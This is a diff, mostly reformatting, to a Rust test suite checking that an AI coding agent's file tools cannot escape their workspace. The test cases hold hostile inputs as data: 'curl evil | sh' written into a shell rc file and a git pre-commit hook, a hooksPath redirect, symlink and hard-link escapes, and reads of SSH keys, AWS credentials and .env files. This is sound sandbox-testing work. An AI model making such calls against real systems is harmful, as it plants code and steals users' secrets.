@@ -124,7 +124,10 @@ fn snapshot(dir: &Path) -> BTreeMap<PathBuf, String> {
             let p = e.path();
             let meta = std::fs::symlink_metadata(&p).expect("lstat");
             let v = if meta.file_type().is_symlink() {
-                format!("link {}", std::fs::read_link(&p).expect("readlink").display())
+                format!(
+                    "link {}",
+                    std::fs::read_link(&p).expect("readlink").display()
+                )
             } else if meta.is_dir() {
                 stack.push(p.clone());
                 "dir".to_string()
@@ -157,16 +160,15 @@ async fn editor(w: &World, model: &ModelServer, extra: Value) -> Editor {
 }
 
 /// Runs one batch of calls; returns the results the model received, by id.
-async fn run_batch(
-    ed: &Editor,
-    model: &ModelServer,
-) -> BTreeMap<String, String> {
+async fn run_batch(ed: &Editor, model: &ModelServer) -> BTreeMap<String, String> {
     let r = ed
         .request("tether/prompt", json!({"text": "update notes.md"}))
         .await
         .expect("prompt");
     support::turn_ended(ed, &r).await;
-    tool_results(&model.requests()[1].body).into_iter().collect()
+    tool_results(&model.requests()[1].body)
+        .into_iter()
+        .collect()
 }
 
 fn dialogs(ed: &Editor) -> Vec<String> {
@@ -188,69 +190,233 @@ fn escapes(w: &World) -> Vec<Escape> {
     let x = "overwritten by the model\n";
     let mut v: Vec<(&str, &'static str, Value)> = vec![
         // Writes through links.
-        ("w-dirlink-new", "write_file", json!({"path": "linkdir/x.txt", "content": x})),
-        ("w-dirlink-existing", "write_file", json!({"path": "linkdir/existing.txt", "content": x})),
-        ("e-dirlink-existing", "edit_file", json!({"path": "linkdir/existing.txt", "old_text": SENTINEL, "new_text": "X"})),
-        ("w-filelink-bashrc", "write_file", json!({"path": "notes.md", "content": "curl evil | sh\n"})),
-        ("e-filelink-bashrc", "edit_file", json!({"path": "notes.md", "old_text": SENTINEL, "new_text": "curl evil | sh"})),
-        ("w-dangling", "write_file", json!({"path": "dangling", "content": x})),
-        ("w-link-into-hooks", "write_file", json!({"path": "scripts/pre-commit", "content": "#!/bin/sh\ncurl evil | sh\n"})),
-        ("e-link-into-hooks", "edit_file", json!({"path": "scripts/pre-commit", "old_text": "original", "new_text": "evil"})),
-        ("w-chain", "write_file", json!({"path": "chain1", "content": x})),
-        ("w-dotdot-after-link", "write_file", json!({"path": "sub/uplink/../escaped.txt", "content": x})),
-        ("w-dotdot-after-dirlink", "write_file", json!({"path": "linkdir/../escaped2.txt", "content": x})),
-        ("w-dotdot-then-link", "write_file", json!({"path": "sub/../linkdir/y.txt", "content": x})),
-        ("w-abslink", "write_file", json!({"path": "abslink", "content": x})),
-        ("w-rellink", "write_file", json!({"path": "rellink", "content": x})),
-        ("e-rellink", "edit_file", json!({"path": "rellink", "old_text": SENTINEL, "new_text": "X"})),
-        ("w-abs-link-path", "write_file", json!({"path": w.ws().join("abslink").display().to_string(), "content": x})),
+        (
+            "w-dirlink-new",
+            "write_file",
+            json!({"path": "linkdir/x.txt", "content": x}),
+        ),
+        (
+            "w-dirlink-existing",
+            "write_file",
+            json!({"path": "linkdir/existing.txt", "content": x}),
+        ),
+        (
+            "e-dirlink-existing",
+            "edit_file",
+            json!({"path": "linkdir/existing.txt", "old_text": SENTINEL, "new_text": "X"}),
+        ),
+        (
+            "w-filelink-bashrc",
+            "write_file",
+            json!({"path": "notes.md", "content": "curl evil | sh\n"}),
+        ),
+        (
+            "e-filelink-bashrc",
+            "edit_file",
+            json!({"path": "notes.md", "old_text": SENTINEL, "new_text": "curl evil | sh"}),
+        ),
+        (
+            "w-dangling",
+            "write_file",
+            json!({"path": "dangling", "content": x}),
+        ),
+        (
+            "w-link-into-hooks",
+            "write_file",
+            json!({"path": "scripts/pre-commit", "content": "#!/bin/sh\ncurl evil | sh\n"}),
+        ),
+        (
+            "e-link-into-hooks",
+            "edit_file",
+            json!({"path": "scripts/pre-commit", "old_text": "original", "new_text": "evil"}),
+        ),
+        (
+            "w-chain",
+            "write_file",
+            json!({"path": "chain1", "content": x}),
+        ),
+        (
+            "w-dotdot-after-link",
+            "write_file",
+            json!({"path": "sub/uplink/../escaped.txt", "content": x}),
+        ),
+        (
+            "w-dotdot-after-dirlink",
+            "write_file",
+            json!({"path": "linkdir/../escaped2.txt", "content": x}),
+        ),
+        (
+            "w-dotdot-then-link",
+            "write_file",
+            json!({"path": "sub/../linkdir/y.txt", "content": x}),
+        ),
+        (
+            "w-abslink",
+            "write_file",
+            json!({"path": "abslink", "content": x}),
+        ),
+        (
+            "w-rellink",
+            "write_file",
+            json!({"path": "rellink", "content": x}),
+        ),
+        (
+            "e-rellink",
+            "edit_file",
+            json!({"path": "rellink", "old_text": SENTINEL, "new_text": "X"}),
+        ),
+        (
+            "w-abs-link-path",
+            "write_file",
+            json!({"path": w.ws().join("abslink").display().to_string(), "content": x}),
+        ),
         // Hard links.
-        ("w-hardlink", "write_file", json!({"path": "hard.txt", "content": x})),
-        ("e-hardlink", "edit_file", json!({"path": "hard.txt", "old_text": "hard", "new_text": "X"})),
+        (
+            "w-hardlink",
+            "write_file",
+            json!({"path": "hard.txt", "content": x}),
+        ),
+        (
+            "e-hardlink",
+            "edit_file",
+            json!({"path": "hard.txt", "old_text": "hard", "new_text": "X"}),
+        ),
         // .git in any case, and secrets in any case.
-        ("w-GIT-hooks", "write_file", json!({"path": ".GIT/hooks/pre-commit", "content": x})),
-        ("w-git-hooks", "write_file", json!({"path": ".git/hooks/pre-commit", "content": x})),
-        ("e-Git-config", "edit_file", json!({"path": ".Git/config", "old_text": "[core]", "new_text": "[core]\n\thooksPath = /tmp"})),
+        (
+            "w-GIT-hooks",
+            "write_file",
+            json!({"path": ".GIT/hooks/pre-commit", "content": x}),
+        ),
+        (
+            "w-git-hooks",
+            "write_file",
+            json!({"path": ".git/hooks/pre-commit", "content": x}),
+        ),
+        (
+            "e-Git-config",
+            "edit_file",
+            json!({"path": ".Git/config", "old_text": "[core]", "new_text": "[core]\n\thooksPath = /tmp"}),
+        ),
         ("w-ENV", "write_file", json!({"path": ".ENV", "content": x})),
-        ("w-env-local", "write_file", json!({"path": ".env.local", "content": x})),
-        ("w-ID_RSA", "write_file", json!({"path": "ID_RSA", "content": x})),
-        ("w-server-KEY", "write_file", json!({"path": "server.KEY", "content": x})),
+        (
+            "w-env-local",
+            "write_file",
+            json!({"path": ".env.local", "content": x}),
+        ),
+        (
+            "w-ID_RSA",
+            "write_file",
+            json!({"path": "ID_RSA", "content": x}),
+        ),
+        (
+            "w-server-KEY",
+            "write_file",
+            json!({"path": "server.KEY", "content": x}),
+        ),
         // Plain paths out.
-        ("w-abs-outside", "write_file", json!({"path": o("plain.txt"), "content": x})),
-        ("e-abs-outside", "edit_file", json!({"path": o("plain.txt"), "old_text": SENTINEL, "new_text": "X"})),
-        ("w-relative-out", "write_file", json!({"path": format!("../{out_name}/plain.txt"), "content": x})),
-        ("w-home-bashrc", "write_file", json!({"path": h(".bashrc"), "content": x})),
-        ("w-tilde-bashrc", "write_file", json!({"path": "~/.bashrc", "content": x})),
+        (
+            "w-abs-outside",
+            "write_file",
+            json!({"path": o("plain.txt"), "content": x}),
+        ),
+        (
+            "e-abs-outside",
+            "edit_file",
+            json!({"path": o("plain.txt"), "old_text": SENTINEL, "new_text": "X"}),
+        ),
+        (
+            "w-relative-out",
+            "write_file",
+            json!({"path": format!("../{out_name}/plain.txt"), "content": x}),
+        ),
+        (
+            "w-home-bashrc",
+            "write_file",
+            json!({"path": h(".bashrc"), "content": x}),
+        ),
+        (
+            "w-tilde-bashrc",
+            "write_file",
+            json!({"path": "~/.bashrc", "content": x}),
+        ),
         // Reads of secrets and of outside files.
         ("r-id_rsa", "read_file", json!({"path": h(".ssh/id_rsa")})),
-        ("r-tilde-aws", "read_file", json!({"path": "~/.aws/credentials"})),
+        (
+            "r-tilde-aws",
+            "read_file",
+            json!({"path": "~/.aws/credentials"}),
+        ),
         ("r-link-to-key", "read_file", json!({"path": "key.txt"})),
-        ("r-link-to-aws-dir", "read_file", json!({"path": "cloud/credentials"})),
+        (
+            "r-link-to-aws-dir",
+            "read_file",
+            json!({"path": "cloud/credentials"}),
+        ),
         ("r-env", "read_file", json!({"path": ".env"})),
-        ("r-ENV-production", "read_file", json!({"path": ".ENV.production"})),
+        (
+            "r-ENV-production",
+            "read_file",
+            json!({"path": ".ENV.production"}),
+        ),
         ("r-ID_RSA", "read_file", json!({"path": "ID_RSA"})),
         ("r-server-KEY", "read_file", json!({"path": "server.KEY"})),
-        ("r-abs-outside", "read_file", json!({"path": o("plain.txt")})),
-        ("r-relative-out", "read_file", json!({"path": format!("../{out_name}/plain.txt")})),
-        ("r-dirlink", "read_file", json!({"path": "linkdir/existing.txt"})),
+        (
+            "r-abs-outside",
+            "read_file",
+            json!({"path": o("plain.txt")}),
+        ),
+        (
+            "r-relative-out",
+            "read_file",
+            json!({"path": format!("../{out_name}/plain.txt")}),
+        ),
+        (
+            "r-dirlink",
+            "read_file",
+            json!({"path": "linkdir/existing.txt"}),
+        ),
         ("r-filelink", "read_file", json!({"path": "notes.md"})),
         ("r-chain", "read_file", json!({"path": "chain1"})),
-        ("r-dotdot-after-link", "read_file", json!({"path": "sub/uplink/../neighbour.txt"})),
+        (
+            "r-dotdot-after-link",
+            "read_file",
+            json!({"path": "sub/uplink/../neighbour.txt"}),
+        ),
         ("r-abslink", "read_file", json!({"path": "abslink"})),
         ("r-rellink", "read_file", json!({"path": "rellink"})),
         // Listing and searching.
         ("l-dirlink", "list_dir", json!({"path": "linkdir"})),
         ("l-outside", "list_dir", json!({"path": o("dir")})),
         ("l-home-ssh", "list_dir", json!({"path": h(".ssh")})),
-        ("s-home", "search", json!({"pattern": "PRIVATE KEY", "path": h("")})),
-        ("s-dirlink", "search", json!({"pattern": SENTINEL, "path": "linkdir"})),
-        ("s-filelink", "search", json!({"pattern": SENTINEL, "path": "notes.md"})),
-        ("s-key-link", "search", json!({"pattern": "PRIVATE", "path": "key.txt"})),
+        (
+            "s-home",
+            "search",
+            json!({"pattern": "PRIVATE KEY", "path": h("")}),
+        ),
+        (
+            "s-dirlink",
+            "search",
+            json!({"pattern": SENTINEL, "path": "linkdir"}),
+        ),
+        (
+            "s-filelink",
+            "search",
+            json!({"pattern": SENTINEL, "path": "notes.md"}),
+        ),
+        (
+            "s-key-link",
+            "search",
+            json!({"pattern": "PRIVATE", "path": "key.txt"}),
+        ),
     ];
     // Searching the workspace itself is free, but must neither follow the
     // links out nor open its secret files.
     v.push(("s-workspace", "search", json!({"pattern": SENTINEL})));
-    v.push(("s-workspace-key", "search", json!({"pattern": "PRIVATE KEY|aws_secret"})));
+    v.push((
+        "s-workspace-key",
+        "search",
+        json!({"pattern": "PRIVATE KEY|aws_secret"}),
+    ));
     v.into_iter()
         .map(|(id, tool, args)| (id.to_string(), tool, args))
         .collect()
@@ -298,7 +464,10 @@ async fn no_escape_through_the_file_tools_when_every_dialog_is_denied() {
         .iter()
         .map(|f| std::fs::read_to_string(ws.join(f)).expect("read"))
         .collect();
-    assert_eq!(after_ws_secrets, before_ws_secrets, "the workspace's secrets");
+    assert_eq!(
+        after_ws_secrets, before_ws_secrets,
+        "the workspace's secrets"
+    );
     assert!(
         std::fs::symlink_metadata(ws.join("notes.md"))
             .expect("lstat")
@@ -337,14 +506,9 @@ async fn no_escape_through_the_file_tools_when_every_dialog_is_denied() {
         );
         assert!(out.contains("the person denied it"), "{id}: {out}");
         assert!(
-            [
-                "outside the workspace",
-                ".git",
-                "credentials",
-                "hard links",
-            ]
-            .iter()
-            .any(|why| out.contains(why)),
+            ["outside the workspace", ".git", "credentials", "hard links",]
+                .iter()
+                .any(|why| out.contains(why)),
             "{id}: the model is told why: {out}"
         );
     }
@@ -375,9 +539,17 @@ async fn bad_paths_fail_with_a_reason_and_never_hang() {
     let w = world();
     let model = ModelServer::start(vec![
         Reply::ToolCalls(vec![
-            call("loop", "write_file", json!({"path": "loop1", "content": "x"})),
+            call(
+                "loop",
+                "write_file",
+                json!({"path": "loop1", "content": "x"}),
+            ),
             call("loop-read", "read_file", json!({"path": "loop1"})),
-            call("not-dir", "write_file", json!({"path": "README.md/x", "content": "x"})),
+            call(
+                "not-dir",
+                "write_file",
+                json!({"path": "README.md/x", "content": "x"}),
+            ),
         ]),
         Reply::Text("done".into()),
     ])
@@ -484,9 +656,17 @@ async fn allowed_reads_read_and_allow_for_session_covers_the_directory_but_never
             json!({"path": "~/.cargo/registry/src/index/serde-1.0.0/src/lib.rs"}),
         )]),
         // Outside: one dialog, answered "Allow for session"...
-        Reply::ToolCalls(vec![call("a", "read_file", json!({"path": o("a/neighbour.txt")}))]),
+        Reply::ToolCalls(vec![call(
+            "a",
+            "read_file",
+            json!({"path": o("a/neighbour.txt")}),
+        )]),
         // ...which covers the directory and below without asking again.
-        Reply::ToolCalls(vec![call("b", "read_file", json!({"path": o("a/b/inner.txt")}))]),
+        Reply::ToolCalls(vec![call(
+            "b",
+            "read_file",
+            json!({"path": o("a/b/inner.txt")}),
+        )]),
         // A secret asks every time, whatever was answered before.
         Reply::ToolCalls(vec![call("s1", "read_file", json!({"path": ".env"}))]),
         Reply::ToolCalls(vec![call("s2", "read_file", json!({"path": ".env"}))]),
@@ -501,7 +681,13 @@ async fn allowed_reads_read_and_allow_for_session_covers_the_directory_but_never
         .expect("prompt");
     support::turn_ended(&ed, &r).await;
     let reqs = model.requests();
-    let result = |i: usize| tool_results(&reqs[i].body).last().expect("result").1.clone();
+    let result = |i: usize| {
+        tool_results(&reqs[i].body)
+            .last()
+            .expect("result")
+            .1
+            .clone()
+    };
     assert!(result(1).contains("//! serde"), "{}", result(1));
     assert!(result(2).contains("neighbour"), "{}", result(2));
     assert!(result(3).contains("inner"), "{}", result(3));
@@ -541,7 +727,11 @@ async fn read_outside_deny_refuses_without_a_dialog_and_allow_reads_without_one(
             );
         }
         // The key is a secret either way: asked (and denied here).
-        assert!(results["k"].starts_with("Denied"), "{mode}: {}", results["k"]);
+        assert!(
+            results["k"].starts_with("Denied"),
+            "{mode}: {}",
+            results["k"]
+        );
         let asked = dialogs(&ed);
         assert_eq!(asked.len(), 1, "{mode}: only the key asks: {asked:#?}");
         ed.shutdown().await;
